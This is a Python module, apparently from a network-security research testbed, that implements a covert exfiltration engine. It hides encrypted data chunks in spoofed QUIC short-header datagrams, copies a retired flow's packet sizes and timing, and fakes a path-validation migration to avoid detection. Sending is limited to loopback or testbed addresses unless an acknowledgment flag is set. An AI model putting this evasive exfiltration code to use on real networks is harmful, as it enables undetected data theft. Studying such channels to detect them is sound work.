"""Exfiltration emulation engine.

A job replays a retired flow's externally visible fingerprint: payload
lengths sampled from the flow's observed benign length dataset, inter-send
times sampled from its observed deltas (minus the sender's own base rate),
a spoofed ≥1200-byte path-validation datagram to open the fake migration,
and fully pseudo-random payload bytes (AES-256-CTR) so payload entropy
matches protected QUIC traffic. Every emitted datagram is hashed into a
blacklist before it leaves, so the sniffer never feeds on its own output.

Loopback/testbed destinations only; a non-private destination requires an
explicit ownership acknowledgment and is refused otherwise.
"""

from __future__ import annotations

import hashlib
import logging
import socket
import statistics
import struct
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Optional

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from .flows import DEFAULT_MIN_DATASET, FlowState
from .util import check_destination, now_us
from .wire import FORM_BIT, build_short_header

logger = logging.getLogger(__name__)

# Wire framing inside the encrypted body: magic | seq | chunk length.
_FRAME_MAGIC = b"\x9c\x3f\xa1\x5e"
_FRAME_HEADER = len(_FRAME_MAGIC) + 4 + 2
NONCE_LEN = 8
MIN_FRAME_PAYLOAD = NONCE_LEN + _FRAME_HEADER  # smallest usable x_t
CHALLENGE_LEN = 8
MIN_PROBE_DATAGRAM = 1200  # floor for path challenge/response datagrams
DEFAULT_PROBE_PAYLOAD_LEN = 1350


class JobAborted(RuntimeError):
    """An exfiltration job refused to start or gave up before sending."""


@dataclass
class BaseRate:
    """Unthrottled inter-send interval statistics of this sender."""
    br_us: int          # the rate subtracted from sampled deltas (the mean)
    median_us: int
    mean_us: int
    stddev_us: float
    n_probe: int


class Blacklist:
    """SHA-3-256 digests of every datagram this engine has emitted.

    Insertion happens before the send, so a sniffer on the same interface can
    always recognize and drop self-traffic.
    """

    def __init__(self):
        self._hashes: set[bytes] = set()
        self._lock = threading.Lock()

    def __len__(self) -> int:
        return len(self._hashes)

    def add(self, datagram: bytes) -> None:
        with self._lock:
            self._hashes.add(hashlib.sha3_256(datagram).digest())

    def contains(self, datagram: bytes) -> bool:
        return hashlib.sha3_256(datagram).digest() in self._hashes


def blacklist_check(datagram: bytes, blacklist: Blacklist) -> bool:
    """True iff the datagram was emitted by this engine (drop it on ingest)."""
    return blacklist.contains(datagram)


def sample_payload_len(flow, rng) -> int:
    """Draw one payload length uniformly from a flow's observed dataset."""
    dataset = flow.payload_dataset if isinstance(flow, FlowState) else flow
    if not dataset:
        raise JobAborted("empty payload-length dataset; flow is not eligible")
    return rng.choice(dataset)


def _encrypt_frame(key: bytes, nonce: bytes, seq: int, chunk: bytes, body_len: int) -> bytes:
    """CTR-encrypt one frame and pad it with keystream bytes to body_len."""
    plaintext = _FRAME_MAGIC + struct.pack(">IH", seq, len(chunk)) + chunk
    plaintext += bytes(body_len - len(plaintext))
    counter_block = nonce + bytes(16 - NONCE_LEN)
    enc = Cipher(algorithms.AES(key), modes.CTR(counter_block)).encryptor()
    return enc.update(plaintext) + enc.finalize()


def encode_frame(key: bytes, rng, seq: int, chunk: bytes, payload_len: int) -> bytes:
    """Build one exfil payload of exactly payload_len pseudo-random bytes."""
    if payload_len < MIN_FRAME_PAYLOAD:
        raise ValueError(f"payload_len {payload_len} below minimal framing")
    if len(chunk) + MIN_FRAME_PAYLOAD > payload_len:
        raise ValueError("chunk too large for the sampled payload length")
    nonce = rng.randbytes(NONCE_LEN)
    return nonce + _encrypt_frame(key, nonce, seq, chunk,
                                  payload_len - NONCE_LEN)


def decode_frame(key: bytes, payload: bytes) -> Optional[tuple]:
    """Inverse of encode_frame: (seq, chunk), or None if it does not decode."""
    if len(payload) < MIN_FRAME_PAYLOAD:
        return None
    nonce, body = payload[:NONCE_LEN], payload[NONCE_LEN:]
    counter_block = nonce + bytes(16 - NONCE_LEN)
    dec = Cipher(algorithms.AES(key), modes.CTR(counter_block)).decryptor()
    plain = dec.update(body) + dec.finalize()
    if plain[:len(_FRAME_MAGIC)] != _FRAME_MAGIC:
        return None
    seq, chunk_len = struct.unpack(">IH", plain[len(_FRAME_MAGIC):_FRAME_HEADER])
    if _FRAME_HEADER + chunk_len > len(plain):
        return None
    return seq, plain[_FRAME_HEADER:_FRAME_HEADER + chunk_len]


def max_chunk_len(payload_len: int) -> int:
    return max(payload_len - MIN_FRAME_PAYLOAD, 0)


def build_exfil_packet(dcid: bytes, key: bytes, rng, seq: int, chunk: bytes,
                       x_t: int, low_bits: int = 0) -> bytes:
    """Short-header datagram whose QUIC payload is exactly x_t bytes."""
    payload = encode_frame(key, rng, seq, chunk, x_t)
    return build_short_header(dcid, payload, fixed_bit=True, low_bits=low_bits)


def build_path_validation(flow: FlowState, key: bytes, first_chunk: bytes, rng,
                          target_payload_len: int = DEFAULT_PROBE_PAYLOAD_LEN,
                          dcid: Optional[bytes] = None, low_bits: int = 0) -> bytes:
    """Spoofed path-validation datagram opening a mimicked migration.

    Body: 8 unpredictable challenge bytes, then the encrypted first data
    chunk, padded so the datagram is at least 1200 bytes (the floor every
    path probe must meet) and matches the size benign probes use.
    """
    if not flow.retired:
        raise JobAborted("path validation is only spoofed for retired flows")
    the_dcid = dcid if dcid is not None else flow.dcid
    header_len = 1 + len(the_dcid)
    max_first = MIN_PROBE_DATAGRAM - header_len - CHALLENGE_LEN
    if len(first_chunk) > max_first:
        raise ValueError(f"first chunk exceeds the {max_first}-byte probe capacity")
    payload_len = max(target_payload_len,
                      MIN_PROBE_DATAGRAM - header_len,
                      CHALLENGE_LEN + MIN_FRAME_PAYLOAD + len(first_chunk))
    challenge = rng.randbytes(CHALLENGE_LEN)
    frame = encode_frame(key, rng, 0, first_chunk, payload_len - CHALLENGE_LEN)
    return build_short_header(the_dcid, challenge + frame,
                              fixed_bit=True, low_bits=low_bits)


def build_path_response(challenge: bytes, dcid: bytes, rng,
                        target_payload_len: int = DEFAULT_PROBE_PAYLOAD_LEN) -> bytes:
    """Spoofed ≥1200-byte answer echoing the 8 challenge bytes."""
    header_len = 1 + len(dcid)
    payload_len = max(target_payload_len, MIN_PROBE_DATAGRAM - header_len)
    padding = rng.randbytes(payload_len - CHALLENGE_LEN)
    return build_short_header(dcid, challenge[:CHALLENGE_LEN] + padding,
                              fixed_bit=True, low_bits=rng.randrange(0x40))


def measure_base_rate(n_probe: int = 200, dst: Optional[tuple] = None) -> BaseRate:
    """Measure this sender's unthrottled inter-send interval over loopback.

    Sends n_probe minimal datagrams back-to-back and summarizes the deltas.
    The mean becomes the rate subtracted from mimicked deltas; the median is
    kept because the distribution is typically right-skewed.
    """
    if n_probe < 100:
        raise ValueError("base-rate measurement needs at least 100 probe sends")
    sink = None
    if dst is None:
        sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sink.bind(("127.0.0.1", 0))
        dst = sink.getsockname()
    check_destination(dst[0])
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        stamps = []
        for _ in range(n_probe):
            sock.sendto(b"\x00", dst)
            stamps.append(now_us())
    except OSError as exc:
        raise JobAborted(f"base-rate probe socket failed: {exc}") from exc
    finally:
        sock.close()
        if sink is not None:
            sink.close()
    deltas = [b - a for a, b in zip(stamps, stamps[1:])]
    mean = statistics.fmean(deltas)
    return BaseRate(br_us=int(round(mean)), median_us=int(statistics.median(deltas)),
                    mean_us=int(round(mean)), stddev_us=statistics.pstdev(deltas),
                    n_probe=n_probe)


@dataclass
class SendLogEntry:
    ts_us: int
    dcid: bytes
    dst: tuple
    x_t: int                 # QUIC payload length of the sent datagram
    intended_delta_us: int
    sleep_us: int
    actual_delta_us: int
    first_byte: int
    datagram_len: int
    seq: int
    chunk_len: int
    delivered: bool
    kind: str                # "validate" or "data"


SEND_LOG_COLUMNS = ("ts_us", "dcid_hex", "dst", "x_t", "intended_delta_us",
                    "sleep_us", "actual_delta_us")


def write_send_log(entries, path) -> None:
    """Newline-delimited send log in the documented column order."""
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(",".join(SEND_LOG_COLUMNS) + "\n")
        for e in entries:
            fh.write(f"{e.ts_us},{e.dcid.hex()},{e.dst[0]}:{e.dst[1]},{e.x_t},"
                     f"{e.intended_delta_us},{e.sleep_us},{e.actual_delta_us}\n")


@dataclass
class ExfilJob:
    """One mimicked server-side migration against a retired flow.

    The destination address is used for this single migration and discarded
    afterwards by the caller; a job never opens with a handshake and never
    emits a long-header datagram.
    """

    flow: FlowState
    dst: tuple
    n: int                             # mimic-loop packet budget (Algorithm-2 n)
    payload_source: bytes
    key: bytes
    rng_len: object                    # payload-length draws
    rng_time: object                   # delta draws
    rng_crypto: object                 # nonces, challenge bytes, header low bits
    min_dataset: int = DEFAULT_MIN_DATASET
    fresh_dcid: bool = False
    probe_payload_len: int = DEFAULT_PROBE_PAYLOAD_LEN
    response_timeout_s: float = 2.0
    stop_when_done: bool = False       # end early once payload_source is sent
    dest_acknowledged: bool = False
    sender: Optional[Callable] = None  # (datagram, dst, sock) -> delivered bool
    sent_count: int = 0
    data_offset: int = 0
    log: list = field(default_factory=list)
    blacklist: Blacklist = field(default_factory=Blacklist)
    bound_port: Optional[int] = None
    _sock: Optional[socket.socket] = None
    _last_send_us: Optional[int] = None
    _seq: int = 0

    @property
    def wire_dcid(self) -> bytes:
        if not hasattr(self, "_wire_dcid"):
            if self.fresh_dcid:
                # replicate the exact length of the original DCID
                self._wire_dcid = self.rng_crypto.randbytes(len(self.flow.dcid))
            else:
                self._wire_dcid = self.flow.dcid
        return self._wire_dcid

    def data_bytes_sent(self) -> int:
        return self.data_offset

    def open_socket(self, src_port: int = 0, src_host: str = "127.0.0.1") -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            self._sock.bind((src_host, src_port))
        except OSError:
            # fall back to an ephemeral port if the retired port got re-taken
            logger.warning("could not re-bind retired source port %d; using ephemeral",
                           src_port)
            self._sock.bind((src_host, 0))
        self.bound_port = self._sock.getsockname()[1]
        self._sock.setblocking(False)

    def close(self) -> None:
        if self._sock is not None:
            self._sock.close()
            self._sock = None

    def _check_eligibility(self, deltas: dict) -> list:
        if not self.flow.retired:
            raise JobAborted("flow has not retired; mimicry would overlap benign traffic")
        if self.flow.dataset_total < self.min_dataset:
            raise JobAborted(
                f"flow dataset has {self.flow.dataset_total} packets, "
                f"needs {self.min_dataset}")
        flow_deltas = deltas.get(self.flow.dcid)
        if not flow_deltas:
            raise JobAborted("no observed time deltas for this flow")
        if not self.flow.payload_dataset or max(self.flow.payload_dataset) < MIN_FRAME_PAYLOAD:
            raise JobAborted("observed payload lengths are too small to frame data")
        check_destination(self.dst[0], acknowledged=self.dest_acknowledged)
        return flow_deltas

    def _next_chunk(self, capacity: int) -> bytes:
        chunk = self.payload_source[self.data_offset:self.data_offset + capacity]
        self.data_offset += len(chunk)
        return chunk

    def _send(self, datagram: bytes, intended_delta_us: int, sleep_us: int,
              seq: int, chunk_len: int, kind: str) -> None:
        # insert-before-send keeps the sniffer blacklist sound even if the
        # tapped copy arrives instantly
        self.blacklist.add(datagram)
        if self.sender is not None:
            delivered = self.sender(datagram, self.dst, self._sock)
        else:
            self._sock.sendto(datagram, self.dst)
            delivered = True
        ts = now_us()
        actual = ts - self._last_send_us if self._last_send_us is not None else 0
        self._last_send_us = ts
        self.sent_count += 1
        self.log.append(SendLogEntry(ts, self.wire_dcid, self.dst, len(datagram) - 1 - len(self.wire_dcid),
                                     intended_delta_us, sleep_us, actual,
                                     datagram[0], len(datagram), seq, chunk_len, delivered, kind))

    def _drain_responses(self) -> int:
        got = 0
        if self._sock is None:
            return got
        while True:
            try:
                self._sock.recvfrom(65535)
                got += 1
            except OSError:  # empty queue, or a queued ICMP error: both fine
                return got

    def validate_path(self) -> None:
        """Phase two: spoofed path validation, carrying the first data bytes."""
        header_len = 1 + len(self.wire_dcid)
        cap = min(MIN_PROBE_DATAGRAM - header_len - CHALLENGE_LEN - MIN_FRAME_PAYLOAD,
                  max(self.probe_payload_len - CHALLENGE_LEN - MIN_FRAME_PAYLOAD, 0))
        chunk = self._next_chunk(max(cap, 0))
        datagram = build_path_validation(self.flow, self.key, chunk, self.rng_crypto,
                                         target_payload_len=self.probe_payload_len,
                                         dcid=self.wire_dcid,
                                         low_bits=self.rng_crypto.randrange(0x40))
        self._send(datagram, 0, 0, seq=0, chunk_len=len(chunk), kind="validate")
        self._seq = 1
        if self._sock is not None and self.response_timeout_s > 0:
            self._sock.settimeout(self.response_timeout_s)
            try:
                self._sock.recvfrom(65535)
            except (socket.timeout, OSError):
                logger.warning("no path response from %s within %.1fs; continuing",
                               self.dst, self.response_timeout_s)
            finally:
                self._sock.setblocking(False)


def mimic_send_loop(job: ExfilJob, deltas: dict, base_rate: BaseRate,
                    stop_event: Optional[threading.Event] = None,
                    mimic_timing: bool = True) -> list:
    """Send the job's packet budget while mimicking observed inter-send deltas.

    Each iteration draws a delta uniformly from the flow's observed table,
    subtracts the sender's base rate, and sleeps the remainder when positive
    (a non-positive result needs no sleep). With ``mimic_timing`` off the
    loop sends at its natural constant rate, which is the fingerprint the
    ablation experiment measures.
    """
    flow_deltas = job._check_eligibility(deltas)
    for _ in range(job.n):
        if stop_event is not None and stop_event.is_set():
            break
        if job.stop_when_done and job.data_offset >= len(job.payload_source):
            break
        intended = job.rng_time.choice(flow_deltas) if mimic_timing else 0
        sleep_us = max(intended - base_rate.br_us, 0)
        if sleep_us > 0:
            time.sleep(sleep_us / 1_000_000)
        x_t = sample_payload_len(job.flow, job.rng_len)
        while x_t < MIN_FRAME_PAYLOAD:
            x_t = sample_payload_len(job.flow, job.rng_len)
        chunk = job._next_chunk(max_chunk_len(x_t))
        datagram = build_exfil_packet(job.wire_dcid, job.key, job.rng_crypto,
                                      job._seq, chunk, x_t,
                                      low_bits=job.rng_crypto.randrange(0x40))
        job._send(datagram, intended, sleep_us, seq=job._seq,
                  chunk_len=len(chunk), kind="data")
        job._seq += 1
        job._drain_responses()
    return job.log


def run_job(job: ExfilJob, deltas: dict, base_rate: BaseRate,
            src_port: int = 0, stop_event: Optional[threading.Event] = None,
            mimic_timing: bool = True) -> list:
    """Full job lifecycle: open socket, validate path, run the mimic loop."""
    job._check_eligibility(deltas)
    job.open_socket(src_port=src_port)
    try:
        job.validate_path()
        return mimic_send_loop(job, deltas, base_rate, stop_event=stop_event,
                               mimic_timing=mimic_timing)
    finally:
        job.close()


def audit_no_long_headers(log: list) -> bool:
    """True iff no logged datagram carries the long-header form bit."""
    return all(not (entry.first_byte & FORM_BIT) for entry in log)
